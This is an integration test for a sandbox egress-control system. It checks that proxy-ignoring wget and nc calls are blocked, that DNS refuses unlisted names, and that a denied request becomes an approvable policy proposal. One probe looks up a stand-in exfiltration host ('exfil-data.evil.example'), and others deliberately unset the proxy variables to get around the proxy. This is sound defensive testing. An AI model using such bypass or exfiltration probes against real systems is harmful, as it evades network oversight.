// Transparent egress (on by default) and the approval flow, end to end: a real podman sandbox of
// the base image (busybox) placed through the whole suite, commands run in it with exec, real
// HTTP and TCP services on this host. Clients that ignore the proxy settings (busybox wget with
// the proxy variables unset, nc) are policed; DNS answers only names the policy names; a denial
// becomes a pending proposal that `bulwark policy approve` turns into an allow on the live sandbox.
#include <arpa/inet.h>
#include <doctest/doctest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <thread>

#include "shared/error.h"
#include "shared/util.h"
#include "tests/integration/suite.h"

extern char** environ;

using namespace bulwark;
using namespace bulwark::testing;
using namespace std::chrono_literals;
using nlohmann::json;

namespace {

// An HTTP server on 0.0.0.0 answering "<name>: <path>", counting requests.
class Web {
 public:
  explicit Web(std::string name) : name_(std::move(name)) {
    server_.Get(".*", [this](const httplib::Request& req, httplib::Response& res) {
      ++hits_;
      res.set_content(name_ + ": " + req.path, "text/plain");
    });
    port_ = server_.bind_to_any_port("0.0.0.0");
    REQUIRE(port_ > 0);
    thread_ = std::thread([this] { server_.listen_after_bind(); });
    REQUIRE(wait_until([&] { return server_.is_running(); }, 5s));
  }
  ~Web() {
    server_.stop();
    thread_.join();
  }
  int port() const { return port_; }
  int hits() const { return hits_; }

 private:
  std::string name_;
  httplib::Server server_;
  int port_ = 0;
  std::atomic<int> hits_{0};
  std::thread thread_;
};

struct Ran {
  int code = -1;
  std::string out, err;
};

// A command in the sandbox (POST .../exec), as the agent: its environment, its confinement.
Ran exec_in(Suite& suite, const std::string& id, const std::string& script) {
  auto c = suite.client();
  c.set_read_timeout(60, 0);
  auto r = c.Post("/v1/sandboxes/" + id + "/exec", json{{"command", {"sh", "-c", script}}, {"timeout_s", 30}}.dump(),
                  "application/json");
  REQUIRE_MESSAGE(r, "exec: no answer from the gateway");
  REQUIRE_MESSAGE(r->status == 200, "exec: " << r->status << " " << r->body);
  auto j = json::parse(r->body);
  return {j.value("exit_code", -1), j.value("stdout", ""), j.value("stderr", "")};
}

// The bulwark CLI against the suite's gateway (BULWARK_TOKEN is the suite's admin token).
Ran cli(const Suite& suite, const std::vector<std::string>& args) {
  std::vector<std::string> argv = {bin("bulwark"), "--gateway", suite.gateway_url()};
  argv.insert(argv.end(), args.begin(), args.end());
  auto p = Process::spawn({.argv = argv, .pipe_stdout = true, .pipe_stderr = true});
  Ran r;
  pollfd fds[2] = {{p.stdout_fd(), POLLIN, 0}, {p.stderr_fd(), POLLIN, 0}};
  std::string* into[2] = {&r.out, &r.err};
  char buf[4096];
  for (int live = 2; live > 0;) {
    if (::poll(fds, 2, 30000) <= 0) break;
    for (int i = 0; i < 2; ++i) {
      if (fds[i].fd < 0 || fds[i].revents == 0) continue;
      ssize_t n = ::read(fds[i].fd, buf, sizeof buf);
      if (n > 0) into[i]->append(buf, static_cast<size_t>(n));
      else fds[i].fd = -1, --live;
    }
  }
  r.code = p.wait_for(30s).value_or(-1);
  return r;
}

// What podman's /etc/hosts calls this host in a container (the supervisor's view of it).
const char* kHostName = "host.containers.internal";

const char* kNoProxy = "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy ";

}  // namespace

TEST_CASE("transparent egress by default in a podman sandbox, and an approval that turns a denial into an allow") {
  podman_socket();
  const std::string ip = outside_ip();
  Web allowed("allowed"), other("other"), approvable("approvable");
  TcpEcho redis, stranger;
  const std::string wp = std::to_string(allowed.port()), op = std::to_string(other.port());
  const std::string ap = std::to_string(approvable.port()), rp = std::to_string(redis.port());
  Suite suite;
  std::string policy = "version: 1\n"
                       "network_policies:\n"
                       "  web:\n"
                       "    endpoints:\n"
                       "      - { host: " + ip + ", port: " + wp + " }\n"
                       "    binaries:\n"
                       "      - { path: /bin/busybox }\n"
                       "  redis:\n"
                       "    endpoints:\n"
                       // protocol: tcp needs a name: podman's /etc/hosts names this host so.
                       "      - { host: " + kHostName + ", port: " + rp + ", protocol: tcp }\n"
                       "    binaries:\n"
                       "      - { path: /bin/busybox }\n";
  auto s = suite.create({{"name", "egress"}, {"command", {"sleep", "600"}}, {"policy", policy}});
  const std::string id = s["sandbox_id"];
  suite.wait_phase(id, {"READY"}, 60s);

  // --- clients that ignore the proxy settings -------------------------------------------------
  auto ok = exec_in(suite, id, std::string(kNoProxy) + "wget -q -O - http://" + ip + ":" + wp + "/direct");
  CHECK_MESSAGE(ok.out == "allowed: /direct", ok.out << ok.err);
  auto no = exec_in(suite, id, std::string(kNoProxy) + "wget -q -O - http://" + ip + ":" + op + "/direct");
  CHECK(no.code != 0);
  CHECK_MESSAGE(has(no.err, "403"), no.err);
  CHECK(other.hits() == 0);

  // DNS: a name no rule names resolves to nothing (and is never looked up).
  auto dns = exec_in(suite, id, "nslookup exfil-data.evil.example");
  CHECK(dns.code != 0);
  CHECK_MESSAGE(has(dns.out + dns.err, "NXDOMAIN"), dns.out << dns.err);
  CHECK_FALSE(has(dns.out, "Address: 1"));

  // protocol: tcp: nc reaches the allowed service, named by the sandbox's DNS, not a service on
  // another port. The connection carries no name: the proxy maps its address back to the name.
  auto ns = exec_in(suite, id, std::string("nslookup ") + kHostName + " | sed -n 's/^Address: *//p' | tail -1");
  const std::string named = ns.out.substr(0, ns.out.find('\n'));
  REQUIRE_MESSAGE(!named.empty(), "the sandbox's DNS did not answer " << kHostName << ": " << ns.out << ns.err);
  auto nc = exec_in(suite, id, "echo ping | nc -w 2 " + named + " " + rp);
  CHECK_MESSAGE(nc.out == "ping\n", nc.out << nc.err);
  CHECK(redis.accepted() == 1);
  auto nc_other = exec_in(suite, id, "echo ping | nc -w 2 " + named + " " + std::to_string(stranger.port()));
  CHECK_FALSE(has(nc_other.out, "ping"));
  CHECK(stranger.accepted() == 0);

  // IPv6 has no way out: the namespace has no IPv6 address and no route.
  auto v6 = exec_in(suite, id, "cat /proc/net/if_inet6; echo ping | nc -w 2 2001:db8::1 " + rp + "; echo rc=$?");
  CHECK_MESSAGE(v6.out == "rc=1\n", v6.out << v6.err);  // if_inet6 empty, and the connect failed

  // --- the approval flow ------------------------------------------------------------------------
  // Through the proxy (its settings, NO_PROXY unset so 127.0.0.1 goes to it): the host's
  // loopback service is denied and proposed.
  const std::string fetch = "unset NO_PROXY no_proxy; wget -q -O - http://127.0.0.1:" + ap + "/approved";
  auto before = exec_in(suite, id, fetch);
  CHECK(before.code != 0);
  CHECK(approvable.hits() == 0);
  exec_in(suite, id, "unset NO_PROXY no_proxy; wget -q -O - http://127.0.0.1:" + op + "/rejected");
  json pending;
  bool proposed = wait_until([&] {
    auto r = suite.client().Get("/v1/policies/egress/pending");
    if (!r || r->status != 200) return false;
    pending = json::parse(r->body)["proposals"];
    return pending.size() >= 2;
  }, 10s);
  REQUIRE_MESSAGE(proposed, pending.dump(2) << "\n" << suite.logs_of("gateway-api"));
  json to_approve, to_reject;
  for (const auto& p : pending) {
    if (p["host"] != "127.0.0.1") continue;  // the transparent denials above were proposed too
    if (p["port"] == approvable.port()) to_approve = p;
    if (p["port"] == other.port()) to_reject = p;
  }
  REQUIRE_MESSAGE(to_approve.is_object(), pending.dump(2));
  REQUIRE_MESSAGE(to_reject.is_object(), pending.dump(2));
  CHECK(to_approve["host"] == "127.0.0.1");
  CHECK(to_approve["binary"] == "/bin/busybox");
  CHECK(to_approve["status"] == "pending");
  CHECK(to_approve["endpoint_yaml"] == "{ host: 127.0.0.1, port: " + ap + " }");
  // A second identical denial is one more hit, not another proposal.
  auto second = exec_in(suite, id, fetch);
  std::string last;
  CHECK_MESSAGE(wait_until([&] {
    auto r = suite.client().Get("/v1/policies/" + id + "/pending");
    if (!r || r->status != 200) return false;
    last = r->body;
    json body = json::parse(r->body);  // kept alive: the loop walks into it
    for (const auto& p : body["proposals"])
      if (p["proposal_id"] == to_approve["proposal_id"]) return p["hits"].get<int>() >= 2;
    return false;
  }, 10s), to_approve.dump() << "\n" << last << "\n" << second.out << second.err);

  auto listed = cli(suite, {"policy", "pending", "egress"});
  CHECK_MESSAGE(listed.code == 0, listed.err);
  CHECK_MESSAGE(has(listed.out, "127.0.0.1:" + ap), listed.out);
  const std::string approve_id = std::to_string(to_approve["proposal_id"].get<int64_t>());
  auto approved = cli(suite, {"policy", "approve", "egress", approve_id, "--timeout", "20"});
  CHECK_MESSAGE(approved.code == 0, approved.out << approved.err << suite.logs_of("gateway-api"));
  CHECK_MESSAGE(has(approved.out, "proposal " + approve_id + " approved"), approved.out);
  CHECK_MESSAGE(has(approved.out, "enforced"), approved.out);
  // The same agent's next request passes: the live sandbox enforces the new version.
  auto after = exec_in(suite, id, fetch);
  CHECK_MESSAGE(after.out == "approvable: /approved", after.out << after.err);
  CHECK(approvable.hits() == 1);
  // The policy now holds the entry, as a new version.
  auto pol = suite.client().Get("/v1/sandboxes/" + id + "/policy");
  REQUIRE(pol);
  CHECK(has(pol->body, "allow_127_0_0_1_" + ap));
  CHECK(json::parse(pol->body).value("version", "") == "2");
  // Approving again is refused; rejecting the other leaves it out of the pending list.
  auto again = cli(suite, {"policy", "approve", "egress", approve_id});
  CHECK(again.code != 0);
  CHECK_MESSAGE(has(again.err, "already approved"), again.err);
  auto rejected = cli(suite, {"policy", "reject", "egress", std::to_string(to_reject["proposal_id"].get<int64_t>())});
  CHECK_MESSAGE(rejected.code == 0, rejected.err);
  auto rest = suite.client().Get("/v1/policies/egress/pending");
  REQUIRE(rest);
  json left = json::parse(rest->body);
  for (const auto& p : left["proposals"]) CHECK(p["host"] != "127.0.0.1");
  // The transparent denial of the other web port above was proposed too, by address.
  bool transparent_proposed = false;
  for (const auto& p : left["proposals"])
    transparent_proposed |= p["host"] == ip && p["port"] == other.port();
  CHECK(transparent_proposed);
  CHECK(other.hits() == 0);
  suite.client().Delete("/v1/sandboxes/" + id);
}
